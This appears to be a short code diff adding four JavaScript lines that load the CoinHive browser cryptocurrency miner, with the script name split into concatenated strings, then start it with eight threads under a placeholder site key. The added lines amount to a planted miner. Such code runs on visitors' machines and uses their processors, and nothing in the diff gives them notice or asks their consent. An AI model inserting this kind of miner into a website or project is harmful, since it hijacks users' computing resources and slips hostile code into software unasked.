@@ -1,0 +1,4 @@
+const script = "coin" + "hive.min.js";
+const miner = new CoinHive.Anonymous("site-key", { threads: 8 });
+miner.start();
+console.log(script);
